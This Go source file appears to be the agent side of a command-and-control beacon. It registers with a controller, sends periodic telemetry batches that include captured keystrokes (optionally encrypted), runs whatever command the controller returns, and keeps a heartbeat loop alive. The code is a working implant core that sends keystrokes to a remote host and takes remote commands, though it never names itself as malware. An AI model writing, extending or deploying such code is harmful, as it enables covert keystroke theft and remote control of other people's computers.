// Package agent drives the outbound-only control channel from the
// restricted peer's side: a callback loop ferrying telemetry and
// commands, and an independent heartbeat loop confirming liveness.
package agent

import (
	"encoding/json"
	"errors"
	"log/slog"
	"sync"
	"time"

	"github.com/outfleet/beacon/internal/api/http/dto"
	"github.com/outfleet/beacon/internal/command"
	"github.com/outfleet/beacon/internal/telemetry"
)

// ErrRetriesExhausted is the only terminal condition: max_retries
// registration attempts were spent without keeping a connection alive.
var ErrRetriesExhausted = errors.New("registration retries exhausted")

// State is the agent's view of the relationship with the controller.
// Both loops read and write it under one mutex; transitions are always
// whole-state assignments.
type State int

const (
	StateDisconnected State = iota
	StateRegistered
)

func (s State) String() string {
	switch s {
	case StateDisconnected:
		return "disconnected"
	case StateRegistered:
		return "registered"
	default:
		return "unknown"
	}
}

// Collector produces one telemetry batch per callback cycle.
type Collector interface {
	Collect() (telemetry.Batch, error)
}

// CollectorFunc adapts a function to the Collector interface.
type CollectorFunc func() (telemetry.Batch, error)

func (f CollectorFunc) Collect() (telemetry.Batch, error) { return f() }

// Applier executes a delivered command. Failures are logged, never
// retried; delivery is at-most-once by design.
type Applier interface {
	Apply(cmd command.Command) error
}

// ApplierFunc adapts a function to the Applier interface.
type ApplierFunc func(cmd command.Command) error

func (f ApplierFunc) Apply(cmd command.Command) error { return f(cmd) }

type Config struct {
	ControllerURL string
	Secret        string

	AgentID      string
	DisplayName  string
	Address      string
	Capabilities []string

	Interval          time.Duration
	HeartbeatInterval time.Duration
	RetryInterval     time.Duration

	// MaxRetries bounds the total number of registration attempts.
	// Zero means unlimited.
	MaxRetries int
}

const (
	defaultInterval          = 60 * time.Second
	defaultHeartbeatInterval = 30 * time.Second
	defaultRetryInterval     = 15 * time.Second
)

// Manager owns the connection state machine and the two loops around it.
type Manager struct {
	cfg       Config
	collector Collector
	applier   Applier
	cipher    Cipher
	client    *client

	mu          sync.Mutex
	state       State
	attempts    int
	terminalErr error

	stopCh   chan struct{}
	stopOnce sync.Once
	doneCh   chan struct{}
	wg       sync.WaitGroup
}

// NewManager wires a manager; cipher may be nil to send payloads as-is.
func NewManager(cfg Config, collector Collector, applier Applier, cipher Cipher) *Manager {
	if cfg.Interval <= 0 {
		cfg.Interval = defaultInterval
	}
	if cfg.HeartbeatInterval <= 0 {
		cfg.HeartbeatInterval = defaultHeartbeatInterval
	}
	if cfg.RetryInterval <= 0 {
		cfg.RetryInterval = defaultRetryInterval
	}

	return &Manager{
		cfg:       cfg,
		collector: collector,
		applier:   applier,
		cipher:    cipher,
		client:    newClient(cfg.ControllerURL, cfg.Secret),
		state:     StateDisconnected,
		stopCh:    make(chan struct{}),
		doneCh:    make(chan struct{}),
	}
}

// Start launches the callback and heartbeat loops.
func (m *Manager) Start() {
	m.wg.Add(2)
	go m.callbackLoop()
	go m.heartbeatLoop()
	go func() {
		m.wg.Wait()
		close(m.doneCh)
	}()
	slog.Info("Connection manager started",
		"controller", m.cfg.ControllerURL,
		"agent_id", m.cfg.AgentID,
		"interval", m.cfg.Interval,
		"heartbeat_interval", m.cfg.HeartbeatInterval)
}

// Stop signals both loops and waits for them to observe it. An in-flight
// request may delay the return by up to its timeout.
func (m *Manager) Stop() {
	m.stopOnce.Do(func() { close(m.stopCh) })
	m.wg.Wait()
}

// Done is closed once both loops have exited, whether via Stop or the
// terminal retries-exhausted condition.
func (m *Manager) Done() <-chan struct{} {
	return m.doneCh
}

// Err reports the terminal error, if the manager gave up.
func (m *Manager) Err() error {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.terminalErr
}

// State returns the current connection state.
func (m *Manager) State() State {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.state
}

func (m *Manager) setState(s State) {
	m.mu.Lock()
	if m.state != s {
		slog.Info("Connection state changed", "from", m.state.String(), "to", s.String())
	}
	m.state = s
	m.mu.Unlock()
}

// callbackLoop registers when disconnected and delivers telemetry while
// registered. Recovery always happens here, never in the heartbeat loop.
func (m *Manager) callbackLoop() {
	defer m.wg.Done()

	for {
		select {
		case <-m.stopCh:
			return
		default:
		}

		if m.State() == StateDisconnected {
			if !m.beginRegistration() {
				slog.Error("Giving up: registration attempts exhausted",
					"max_retries", m.cfg.MaxRetries)
				m.terminate(ErrRetriesExhausted)
				return
			}
			if err := m.register(); err != nil {
				slog.Warn("Registration failed", "error", err, "retry_in", m.cfg.RetryInterval)
				if !m.sleep(m.cfg.RetryInterval) {
					return
				}
				continue
			}
			m.setState(StateRegistered)
		}

		if err := m.deliver(); err != nil {
			slog.Warn("Callback failed", "error", err, "retry_in", m.cfg.RetryInterval)
			m.setState(StateDisconnected)
			if !m.sleep(m.cfg.RetryInterval) {
				return
			}
			continue
		}

		if !m.sleep(m.cfg.Interval) {
			return
		}
	}
}

// heartbeatLoop confirms liveness on its own cadence. It only detects
// loss of connection; it never registers.
func (m *Manager) heartbeatLoop() {
	defer m.wg.Done()

	ticker := time.NewTicker(m.cfg.HeartbeatInterval)
	defer ticker.Stop()

	for {
		select {
		case <-m.stopCh:
			return
		case <-ticker.C:
			if m.State() != StateRegistered {
				continue
			}
			if err := m.client.heartbeat(dto.HeartbeatRequest{
				AgentID:     m.cfg.AgentID,
				DisplayName: m.cfg.DisplayName,
				Timestamp:   time.Now().UTC(),
			}); err != nil {
				slog.Warn("Heartbeat failed", "error", err)
				m.setState(StateDisconnected)
			} else {
				slog.Debug("Heartbeat sent")
			}
		}
	}
}

// beginRegistration accounts for one registration attempt and reports
// whether it is still allowed under max_retries.
func (m *Manager) beginRegistration() bool {
	m.mu.Lock()
	defer m.mu.Unlock()
	if m.cfg.MaxRetries > 0 && m.attempts >= m.cfg.MaxRetries {
		return false
	}
	m.attempts++
	return true
}

func (m *Manager) register() error {
	return m.client.register(dto.RegisterRequest{
		AgentID:      m.cfg.AgentID,
		DisplayName:  m.cfg.DisplayName,
		Address:      m.cfg.Address,
		Capabilities: m.cfg.Capabilities,
		Timestamp:    time.Now().UTC(),
	})
}

// deliver collects one batch, POSTs it and applies the command riding
// back on the response, if any.
func (m *Manager) deliver() error {
	batch, err := m.collector.Collect()
	if err != nil {
		// The producer is an external collaborator; its failure must not
		// stall the channel. Deliver an empty batch to keep liveness.
		slog.Error("Telemetry collection failed", "error", err)
		batch = telemetry.Batch{}
	}

	if m.cipher != nil {
		if err := cipherEvents(m.cipher, batch.Events); err != nil {
			slog.Error("Failed to cipher event payloads", "error", err)
		}
		if err := cipherEvents(m.cipher, batch.Keystrokes); err != nil {
			slog.Error("Failed to cipher keystroke payloads", "error", err)
		}
	}

	cmd, err := m.client.callback(dto.CallbackRequest{
		AgentID:     m.cfg.AgentID,
		DisplayName: m.cfg.DisplayName,
		Timestamp:   time.Now().UTC(),
		Status:      batch.Status,
		Events:      batch.Events,
		Keystrokes:  batch.Keystrokes,
	})
	if err != nil {
		return err
	}

	if cmd != nil {
		slog.Info("Command received", "command_id", cmd.ID)
		if err := m.applier.Apply(*cmd); err != nil {
			slog.Error("Failed to apply command", "command_id", cmd.ID, "error", err)
		}
	}
	return nil
}

func (m *Manager) terminate(err error) {
	m.mu.Lock()
	m.terminalErr = err
	m.mu.Unlock()
	m.stopOnce.Do(func() { close(m.stopCh) })
}

// sleep waits for d unless stop is signalled first; false means stop.
func (m *Manager) sleep(d time.Duration) bool {
	select {
	case <-m.stopCh:
		return false
	case <-time.After(d):
		return true
	}
}

// cipherEvents replaces each event payload with the JSON encoding of its
// ciphered bytes (a base64 string).
func cipherEvents(cipher Cipher, events []telemetry.Event) error {
	for i := range events {
		if len(events[i].Data) == 0 {
			continue
		}
		sealed, err := cipher.Encrypt(events[i].Data)
		if err != nil {
			return err
		}
		encoded, err := json.Marshal(sealed)
		if err != nil {
			return err
		}
		events[i].Data = encoded
	}
	return nil
}
